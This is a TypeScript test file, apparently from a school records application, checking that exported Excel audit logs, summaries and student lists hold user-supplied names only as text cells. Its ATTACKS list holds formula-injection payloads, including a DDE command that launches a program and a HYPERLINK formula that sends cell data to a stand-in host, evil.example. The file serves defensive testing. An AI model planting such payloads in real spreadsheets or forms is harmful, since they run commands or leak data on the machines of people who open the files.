/**
 * A student, or whoever types a roster, gives a name that begins with = + - @ or a tab:
 * `=cmd|'/c calc'!A1`. Months later the counsellor exports a table, the bureau opens it in Excel, and Excel runs
 * what it takes for a formula – on a PC that trusts files from this school.
 *
 * So every text in a workbook is a text cell, also in the second place where a name ends up: the audit log.
 * The workbooks are read back with another library than the one that writes them.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { type CellObject, read, type WorkSheet } from '@e965/xlsx';
import { expect, test } from 'vitest';
import { auditWorkbook } from '#documents/audit/audit-workbook.ts';
import { type SummaryValue, summaryWorkbook } from '#documents/summaries/summary-workbook.ts';
import { EVERY_LINE } from '#shared/contract/audit.ts';
import { STUDENT_COLUMNS } from '#shared/contract/lists.ts';
import { localDate } from '#shared/school-calendar.ts';
import { SUMMARY_FIGURES, type SummaryFigure } from '#shared/summary-figures.ts';
import { codesOf } from '#shared/terms.ts';
import { deskInRoom } from '#tests/vault/desk.ts';
import { day, enrolled } from '#tests/vault/sample.ts';

const ATTACKS = [
  `=cmd|'/c calc'!A1`,
  '=HYPERLINK("http://evil.example/?"&A1,"点这里")',
  '+1+cmd',
  '-2+3',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '＝1＋1',
];

function cellsOf(bytes: Uint8Array): [string, CellObject][] {
  const workbook = read(bytes, { cellFormula: true });
  return workbook.SheetNames.flatMap((name) => {
    const sheet: WorkSheet = workbook.Sheets[name] ?? {};
    return Object.entries(sheet).filter(([address]) => !address.startsWith('!'));
  });
}

/** No cell is a formula, none links anywhere, and no part of the file asks for another program. */
function expectOnlyText(bytes: Uint8Array): void {
  for (const [address, cell] of cellsOf(bytes)) {
    expect(cell.f, address).toBeUndefined();
    expect(cell.l, address).toBeUndefined();
    expect(['s', 'n', 'z'], address).toContain(cell.t);
  }
}

test.each(ATTACKS)('a name %j in the audit log is text in the exported workbook', async (attack) => {
  const row = { sequence: 1, at: 0, who: attack, kind: attack, action: attack, subject: attack };
  const bytes = await auditWorkbook({ schoolName: attack, exportedAt: 0, wanted: attack, rows: [row] });
  expectOnlyText(bytes);
  const cells = new Map(cellsOf(bytes));
  for (const address of ['C4', 'D4', 'E4', 'F4']) {
    expect(cells.get(address)?.t, address).toBe('s');
    expect(String(cells.get(address)?.v).trim(), address).toBe(attack.trim());
  }
});

test.each(ATTACKS)('a school or a title %j is text in the summary', async (attack) => {
  const figures = Object.fromEntries(
    SUMMARY_FIGURES.map(({ code }): [SummaryFigure, SummaryValue] => [
      code,
      { counted: 1, overridden: { value: 2, reason: attack } },
    ]),
    // Object.fromEntries forgets which keys it was given; SUMMARY_FIGURES holds every one.
  ) as Record<SummaryFigure, SummaryValue>;
  const period = { name: attack, from: localDate('2026-07-01'), until: localDate('2026-08-25') };
  expectOnlyText(await summaryWorkbook({ schoolName: attack, period, figures }));
});

test('through the vault: students of such names, a log that tells of them, and its export', async () => {
  const room = await deskInRoom();
  const taken: string[] = [];
  for (const [index, name] of ATTACKS.entries()) {
    const outcome = await room.ask('students.add', {
      studentNumber: `=${index}`,
      name,
      gender: 'unknown',
      bornOn: day('2013-04-09'),
      className: '=1+1',
      guardianName: '',
      guardianRelation: '',
      guardianPhone: '',
    });
    if (outcome.ok) taken.push(name);
  }
  const ordinary = await enrolled(room);
  // A tab or a line break before a name is trimmed or refused at the door already.
  expect(taken.length).toBeGreaterThanOrEqual(5);
  room.chosen.save = join(room.folder, '日志.xlsx');
  await room.get('audit.save', { filters: EVERY_LINE });
  const bytes = readFileSync(room.chosen.save);
  expectOnlyText(bytes);
  const texts = cellsOf(bytes).map(([, { v }]) => String(v));
  expect(texts.some((text) => text.startsWith(`=cmd|'/c calc'!A1（=0）`))).toBe(true);
  const studentIds = (await room.get('students.list', {})).map(({ id }) => id);
  expect(studentIds).toContain(ordinary);
  room.chosen.save = join(room.folder, '名单.xlsx');
  const columns = codesOf(STUDENT_COLUMNS);
  for (const namesMasked of [false, true]) {
    await room.get('students.saveList', { studentIds, columns, namesMasked });
    expectOnlyText(readFileSync(room.chosen.save));
  }
});
